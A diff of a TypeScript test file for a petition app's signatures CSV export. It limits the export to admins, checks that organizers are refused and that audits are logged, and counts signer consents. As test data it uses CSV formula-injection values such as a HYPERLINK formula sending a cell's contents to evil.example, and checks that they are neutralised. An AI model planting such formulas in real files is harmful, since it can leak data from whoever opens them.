@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { rowsOf } from "@/db";
 import { signatures } from "@/db/schema";
 import { createTestDatabase, type TestDatabase } from "@/db/testing";
+import { isAppError } from "@/lib/errors";
 import { makeWorld } from "@/lib/organizers/test-world";
 import { exportSignatures } from "./export-signatures";
 import { getPetitionFigures } from "./get-petition-figures";
@@ -41,8 +42,8 @@ async function csv(out: Awaited<ReturnType<typeof exportSignatures>>): Promise<s
   return s;
 }
 
-describe("delivery export", () => {
-  it("lists confirmed signatures only, neutralises formulas, and shows addresses to admins only", async () => {
+describe("signers' export (admins only)", () => {
+  it("lists confirmed signatures only, with addresses, and neutralises formulas", async () => {
     const w = await makeWorld(db());
     const p = w.published.id;
     await sign(p, "Әлия Нұрланқызы", "aliya@example.org", "confirmed", "2026-11-20T10:00:00Z");
@@ -53,36 +54,35 @@ describe("delivery export", () => {
     await sign(p, "\t=cmd", "tab@example.org", "confirmed", "2026-11-21T14:00:00Z");
     await sign(p, "Pending Person", "pending@example.org", "pending");
 
-    const organizerCsv = await csv(await exportSignatures(db(), w.organizer, { petitionId: p, labels }));
-    const lines = organizerCsv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
-    expect(lines[0]).toBe('"Имя","Подтверждено"');
-    expect(lines.slice(1)).toEqual([
-      '"Әлия Нұрланқызы","2026-11-20 15:00"',
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","2026-11-20 16:00"`,
-      `"'+7 700 000","2026-11-21 16:00"`,
-      `"'@SUM(1+1)","2026-11-21 17:00"`,
-      `"'-1","2026-11-21 18:00"`,
-      `"'\t=cmd","2026-11-21 19:00"`,
-    ]);
-    expect(organizerCsv).not.toContain("@example.org");
-    expect(organizerCsv).not.toContain("Pending Person");
-
     const adminCsv = await csv(await exportSignatures(db(), w.admin, { petitionId: p, labels }));
-    expect(adminCsv).toContain('"Әлия Нұрланқызы","2026-11-20 15:00","aliya@example.org"');
+    const lines = adminCsv.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
     expect(adminCsv.split("\r\n")[0]).toBe('\uFEFF"Имя","Подтверждено","Email"');
+    expect(lines.slice(1)).toEqual([
+      '"Әлия Нұрланқызы","2026-11-20 15:00","aliya@example.org"',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","2026-11-20 16:00","evil@example.org"`,
+      `"'+7 700 000","2026-11-21 16:00","plus@example.org"`,
+      `"'@SUM(1+1)","2026-11-21 17:00","at@example.org"`,
+      `"'-1","2026-11-21 18:00","minus@example.org"`,
+      `"'\t=cmd","2026-11-21 19:00","tab@example.org"`,
+    ]);
+    expect(adminCsv).not.toContain("Pending Person");
   });
 
-  it("records every export in the audit log, with whether addresses were included", async () => {
+  it("is refused to organizers, even of the petition's own campaign, and records nothing then", async () => {
     const w = await makeWorld(db());
-    await exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels });
+    await sign(w.published.id, "Әлия Нұрланқызы", "aliya@example.org", "confirmed", "2026-11-20T10:00:00Z");
+    await expect(exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels })).rejects.toSatisfy((e) => isAppError(e, "forbidden"));
+    const rows = rowsOf(await db().execute(sql`select 1 from audit_log where action = 'signatures.export' and entity_id = ${w.published.id}`));
+    expect(rows).toHaveLength(0);
+  });
+
+  it("records every export in the audit log", async () => {
+    const w = await makeWorld(db());
     await exportSignatures(db(), w.admin, { petitionId: w.published.id, labels });
     const rows = rowsOf<{ actor_id: string; details: { withEmail: boolean } }>(
       await db().execute(sql`select actor_id, details from audit_log where action = 'signatures.export' and entity_id = ${w.published.id} order by at`),
     );
-    expect(rows.map((r) => [r.actor_id, r.details.withEmail])).toEqual([
-      [w.organizer.userId, false],
-      [w.admin.userId, true],
-    ]);
+    expect(rows.map((r) => [r.actor_id, r.details.withEmail])).toEqual([[w.admin.userId, true]]);
   });
 
   it("streams exports larger than one page in order", async () => {
@@ -101,7 +101,7 @@ describe("delivery export", () => {
         confirmedAt: new Date(base + Math.floor(i / 3) * 1000), // ties on the timestamp, to exercise the keyset
       })),
     );
-    const text = await csv(await exportSignatures(db(), w.organizer, { petitionId: w.published.id, labels }));
+    const text = await csv(await exportSignatures(db(), w.admin, { petitionId: w.published.id, labels }));
     const names = text.split("\r\n").slice(1).filter(Boolean).map((l) => l.split('","')[0]!.slice(1));
     expect(names).toHaveLength(4500);
     expect(new Set(names).size).toBe(4500);
@@ -109,21 +109,22 @@ describe("delivery export", () => {
 });
 
 describe("petition figures", () => {
-  it("counts by state, per Almaty day (zero days filled), and consents of confirmed signers", async () => {
+  it("counts by state, per Almaty day (zero days filled), and each consent of confirmed signers on its own", async () => {
     const w = await makeWorld(db());
     const p = w.published.id;
     await sign(p, "A", "a@example.org", "confirmed", "2026-11-20T18:30:00Z", { consentUpdates: true }); // 23:30 in Almaty
     await sign(p, "B", "b@example.org", "confirmed", "2026-11-20T19:30:00Z", { showNamePublicly: true }); // 00:30 next day
     await sign(p, "C", "c@example.org", "confirmed", "2026-11-22T08:00:00Z", { consentUpdates: true, showNamePublicly: true });
-    await sign(p, "D", "d@example.org", "pending", undefined, { consentUpdates: true });
+    await sign(p, "D", "d@example.org", "pending", undefined, { consentUpdates: true, consentDelivery: true });
+    await sign(p, "E", "e@example.org", "confirmed", "2026-11-22T09:00:00Z", { consentDelivery: true });
     const f = await getPetitionFigures(db(), w.organizer, p, new Date("2026-11-23T06:00:00Z"));
-    expect(f.byState).toMatchObject({ confirmed: 3, pending: 1 });
+    expect(f.byState).toMatchObject({ confirmed: 4, pending: 1 });
     expect(f.perDay).toEqual([
       { day: "2026-11-20", n: 1 },
       { day: "2026-11-21", n: 1 },
-      { day: "2026-11-22", n: 1 },
+      { day: "2026-11-22", n: 2 },
       { day: "2026-11-23", n: 0 },
     ]);
-    expect(f.consents).toEqual({ updates: 2, publicName: 2 });
+    expect(f.consents).toEqual({ updates: 2, publicName: 2, deliveryName: 1 });
   });
 });
